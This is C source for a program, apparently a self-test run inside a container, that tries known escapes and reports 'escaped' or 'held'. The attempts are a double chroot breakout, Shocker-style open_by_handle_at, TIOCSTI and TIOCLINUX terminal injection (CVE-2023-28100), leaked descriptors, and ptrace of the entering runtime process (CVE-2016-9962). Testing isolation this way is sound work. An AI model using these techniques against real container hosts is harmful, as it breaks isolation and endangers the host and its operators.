/* Old ways out of a container, as a static program for inside one: `escape WAY`. Prints "escaped ..." or "held ...". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int held(const char *what) { return printf("held %s: %s\n", what, strerror(errno)), 0; }

/* chroot(2) does not move the working directory: a second one leaves it outside. */
static int twice_chroot(const char *canary) {
  mkdir("/tmp/cell", 0700);
  if (chroot("/tmp/cell") != 0) return held("chroot");
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) return held("chdir");
  if (chroot(".") != 0) return held("chroot");
  if (access(canary, F_OK) == 0) return puts("escaped by chroot"), 0;
  return held("chroot");
}

/* "Shocker", 2014: file handles open anything on a file system, wherever the root is. Inode 2 is the root of ext4. */
static int by_handle(const char *path) {
  struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
  memcpy(handle.bytes, "\2\0\0\0\0\0\0\0", 8);
  int mount = open(path, O_RDONLY), fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
  if (fd < 0) return held("open_by_handle_at");
  return puts("escaped by open_by_handle_at"), 0;
}

/* Text put into the terminal's input, for whoever reads there next. */
static int type_for_the_operator(void) {
  for (const char *c = "echo typed\n"; *c; c++)
    if (ioctl(0, TIOCSTI, c) != 0) return held("TIOCSTI");
  return puts("escaped by TIOCSTI"), 0;
}

/* Every descriptor that is open beyond the three. */
static int leaked(void) {
  int found = 0;
  for (int fd = 3; fd < 1024; fd++) {
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(link, target, sizeof target - 1);
    if (size <= 0) continue;
    target[size] = 0;
    printf("escaped: descriptor %d is %s\n", fd, target);
    found++;
  }
  if (!found) puts("held descriptors: none");
  return 0;
}

/* The same by the console's own call (CVE-2023-28100): paste what is selected. */
static int paste_for_the_operator(void) {
  char paste = 3;
  for (int fd = 0; fd < 3; fd++)
    if (ioctl(fd, TIOCLINUX, &paste) == 0 || errno != EPERM) return printf("escaped by TIOCLINUX: %s\n", strerror(errno)), 0;
  return held("TIOCLINUX");
}

/* Where a link of /proc/PID leads, if it tells. */
static const char *leads(const char *pid, const char *link) {
  static char target[256];
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, link);
  ssize_t size = readlink(path, target, sizeof target - 1);
  if (size <= 0) return NULL;
  target[size] = 0;
  return target;
}

/* Whether the process is still the runtime's: not yet a program of the container's /bin, nor gone. */
static int is_the_runtimes(const char *pid) {
  char path[64], name[64] = "";
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  int comm = open(path, O_RDONLY);
  ssize_t size = comm < 0 ? -1 : read(comm, name, sizeof name - 1);
  close(comm);
  if (size <= 0 || strncmp(name, "true", 4) == 0 || strncmp(name, "touch", 5) == 0) return 0;
  const char *program = leads(pid, "exe");
  return program == NULL || strncmp(program, "/bin/", 5) != 0;
}

/* The capabilities that a process has or may come to, from its status. */
static unsigned long long powers(const char *pid) {
  char path[64], text[4096] = "";
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0 || read(fd, text, sizeof text - 1) <= 0) text[0] = 0;
  close(fd);
  const char *caps = strstr(text, "CapPrm:"), *bounding = strstr(text, "CapBnd:");
  return (caps ? strtoull(caps + 7, NULL, 16) : 0) | (bounding ? strtoull(bounding + 7, NULL, 16) : 0);
}

/* Prints what the runtime's process shows of itself, and whether it can be traced. */
static int look_at(const char *pid) {
  int found = 0;
  for (int fd = -3; fd < 64; fd++) {
    char link[32], target[256];
    snprintf(link, sizeof link, fd == -3 ? "exe" : fd == -2 ? "cwd" : fd == -1 ? "root" : "fd/%d", fd);
    const char *seen = leads(pid, link);
    if (seen == NULL) continue;
    strcpy(target, seen);
    if (!is_the_runtimes(pid)) return found;
    found += printf("sees %s %s\n", link, target) > 0;
  }
  if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
    ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
    waitpid(atoi(pid), NULL, __WALL);
    if (is_the_runtimes(pid)) found += printf("traces it%s\n", (powers(pid) & ~powers("self")) != 0 ? " with powers that we have not" : "") > 0;
    ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
  }
  return found;
}

/* CVE-2016-9962: whoever is inside waits for the process that enters, and takes what it brought along. Pids are given out in
   turn, so the next one is known. Ends when /tmp/end appears. */
static int trace_who_enters(void) {
  int met = 0, found = 0, last = getpid();
  puts("watching");
  fflush(stdout);
  while (access("/tmp/end", F_OK) != 0)
    for (int next = last + 1; next < last + 16; next++) {
      char path[64], pid[16];
      snprintf(path, sizeof path, "/proc/%d/comm", next);
      if (access(path, F_OK) != 0) continue;
      snprintf(pid, sizeof pid, "%d", next);
      met++, last = next;
      found += look_at(pid);
      while (waitpid(-1, NULL, __WALL | WNOHANG) > 0) {}
    }
  return printf("met %d, found %d\n", met, found), 0;
}

int main(int argc, char **argv) {
  const char *way = argc > 1 ? argv[1] : "", *path = argc > 2 ? argv[2] : "/";
  if (strcmp(way, "chroot") == 0) return twice_chroot(path);
  if (strcmp(way, "handle") == 0) return by_handle(path);
  if (strcmp(way, "tiocsti") == 0) return type_for_the_operator();
  if (strcmp(way, "tioclinux") == 0) return paste_for_the_operator();
  if (strcmp(way, "trace") == 0) return trace_who_enters();
  if (strcmp(way, "descriptors") == 0) return leaked();
  return 2;
}
